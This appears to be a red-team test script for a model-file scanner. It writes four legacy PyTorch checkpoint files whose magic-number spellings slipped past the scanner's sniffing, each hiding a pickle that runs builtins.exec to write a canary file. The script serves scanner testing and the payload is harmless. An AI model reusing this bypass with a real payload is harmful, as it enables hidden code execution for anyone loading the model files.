"""torch's legacy loader (torch.load of a file that is neither a zip nor a tar) unpickles the
first pickle and compares its value with the magic number 0x1950a86a20f9469cfc6c, then loads
the protocol version, sys_info and the object pickle. Any pickle of that integer will do:
INT or LONG as protocol-0 text (in decimal or hex, with or without the trailing L), or a bare
LONG4. ckpt's sniffing only knew the spellings torch.save writes (LONG1, "L...L"), so these
files were "not a checkpoint: a text file" (CKPT006) and their object pickle, which runs
builtins.exec (writes a canary file), was never scanned."""
import pickle
import sys

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/legacy_magic"
MAGIC = 0x1950A86A20F9469CFC6C
payload = (b"cbuiltins\nexec\n(V" + f"open({canary!r},'w').write('ran')".encode() + b"\ntR.")
sys_info = {"protocol_version": 1001, "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4}}
spellings = {
    "int": b"I%d\n." % MAGIC,
    "hex": b"I0x%x\n." % MAGIC,
    "long": b"L%d\n." % MAGIC,
    "long4": b"\x8b\x0a\x00\x00\x00" + MAGIC.to_bytes(10, "little") + b".",
}
for tag, magic in spellings.items():
    with open(f"model_{tag}.pt", "wb") as f:
        f.write(magic + b"I1001\n." + pickle.dumps(sys_info, 0) + payload + b"].")
print("wrote", ", ".join(f"model_{tag}.pt" for tag in spellings))
